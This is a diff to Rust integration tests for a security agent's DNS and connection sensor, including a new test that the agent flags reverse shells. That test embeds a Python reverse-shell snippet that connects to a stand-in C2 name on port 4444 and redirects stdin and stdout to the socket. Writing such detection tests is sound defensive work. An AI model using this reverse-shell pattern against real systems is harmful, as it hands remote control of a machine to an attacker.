@@ -94,8 +94,17 @@ fn resolver_files(dir: &Path, tag: &str, nameserver: &str) -> (PathBuf, PathBuf)
     (resolv, nss)
 }
 
+/// What a client does once told: connect to every address it got (port 443: the test host
+/// resets), then say `connected`.
+const CONNECT_ALL: &str = "for fam, typ, proto, _, addr in infos:\n\
+    \x20   s = socket.socket(fam, typ, proto); s.settimeout(2)\n\
+    \x20   try: s.connect(addr)\n\
+    \x20   except OSError: pass\n\
+    \x20   s.close()\n\
+    print('connected', flush=True)\n";
+
 /// A python client that resolves `name` through glibc, says `resolved`, waits for a line on
-/// stdin, then connects to every address it got (port 443: the test host resets). Runs in a
+/// stdin, then runs `then` (python, with `infos` from `getaddrinfo`; [`CONNECT_ALL`]). Runs in a
 /// private mount namespace with the given resolver files; `in_ns` runs it inside the test
 /// namespace. The child's pid is the client's (every step execs).
 fn client(
@@ -103,6 +112,7 @@ fn client(
     in_ns: bool,
     files: &(PathBuf, PathBuf),
     name: &str,
+    then: &str,
     procs: &mut Procs,
 ) -> (
     u32,
@@ -110,16 +120,10 @@ fn client(
     BufReader<std::process::ChildStdout>,
 ) {
     let script = format!(
-        "import socket, sys\n\
+        "import os, socket, sys, time\n\
          infos = socket.getaddrinfo('{name}', 443, type=socket.SOCK_STREAM)\n\
          print('resolved', ' '.join(sorted({{i[4][0] for i in infos}})), flush=True)\n\
-         sys.stdin.readline()\n\
-         for fam, typ, proto, _, addr in infos:\n\
-         \x20   s = socket.socket(fam, typ, proto); s.settimeout(2)\n\
-         \x20   try: s.connect(addr)\n\
-         \x20   except OSError: pass\n\
-         \x20   s.close()\n\
-         print('connected', flush=True)\n"
+         sys.stdin.readline()\n{then}"
     );
     let mut cmd = Command::new("ip");
     if in_ns {
@@ -197,7 +201,14 @@ fn a_resolved_name_reaches_the_connect_event_and_the_geo_alert() {
     let files = resolver_files(dir.path(), "direct", DE4);
 
     // Through a CNAME: the name asked is the one shown.
-    let (pid, mut stdin, mut stdout) = client(&net, false, &files, "www.sentinel.test", &mut procs);
+    let (pid, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "www.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
     connect_now(&mut stdin, &mut stdout);
     let ev = connect_of(&agent, pid, RU4);
     assert_eq!(ev["domain"], "www.sentinel.test", "{ev}");
@@ -209,7 +220,14 @@ fn a_resolved_name_reaches_the_connect_event_and_the_geo_alert() {
     );
 
     // An AAAA answer names an IPv6 connect.
-    let (pid6, mut stdin, mut stdout) = client(&net, false, &files, "v6.sentinel.test", &mut procs);
+    let (pid6, mut stdin, mut stdout) = client(
+        &net,
+        false,
+        &files,
+        "v6.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
     connect_now(&mut stdin, &mut stdout);
     let ev = connect_of(&agent, pid6, KP6);
     assert_eq!(ev["domain"], "v6.sentinel.test", "{ev}");
@@ -239,10 +257,22 @@ fn a_local_stub_still_names_the_right_process() {
 
     // Two processes resolve two names to one address, one after the other; each connect
     // carries the name its own process asked for, not the host's latest.
-    let (first, mut first_in, mut first_out) =
-        client(&net, true, &stub, "c2.sentinel.test", &mut procs);
-    let (second, mut second_in, mut second_out) =
-        client(&net, true, &stub, "other.sentinel.test", &mut procs);
+    let (first, mut first_in, mut first_out) = client(
+        &net,
+        true,
+        &stub,
+        "c2.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
+    let (second, mut second_in, mut second_out) = client(
+        &net,
+        true,
+        &stub,
+        "other.sentinel.test",
+        CONNECT_ALL,
+        &mut procs,
+    );
     connect_now(&mut first_in, &mut first_out);
     connect_now(&mut second_in, &mut second_out);
     let ev = connect_of(&agent, first, RU4);
@@ -259,4 +289,35 @@ fn a_local_stub_still_names_the_right_process() {
     );
     let status = agent.status();
     assert_eq!(status["sensors"]["dns"]["attached"], true, "{status}");
+}
+
+#[test]
+fn a_reverse_shell_alert_names_its_peer() {
+    if !common::require_root("a_reverse_shell_alert_names_its_peer") {
+        return;
+    }
+    require_dnsmasq("a_reverse_shell_alert_names_its_peer");
+    let _serial = common::serial();
+    let net = TestNet::new("dnsrs");
+    let mut procs = Procs::default();
+    dnsmasq(&net, DE4, None, &mut procs);
+    common::procs::hold_connections(&net, 4444, &mut procs);
+    let agent = Agent::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let files = resolver_files(dir.path(), "direct", DE4);
+    // The classic python one-liner, to a C2 found by name.
+    let shell = "s = socket.create_connection((infos[0][4][0], 4444), timeout=5)\n\
+                 os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n\
+                 time.sleep(5)\n";
+    let (pid, mut stdin, _stdout) =
+        client(&net, false, &files, "c2.sentinel.test", shell, &mut procs);
+    stdin.write_all(b"go\n").unwrap();
+    let alert = agent.wait_for("alert", &format!("reverse_shell for pid {pid}"), |a| {
+        a["anomaly"] == "reverse_shell" && a["pid"] == pid
+    });
+    let detail = alert["detail"].as_str().unwrap();
+    assert!(
+        detail.contains(&format!("c2.sentinel.test ({RU4}) port 4444")),
+        "{detail}"
+    );
 }
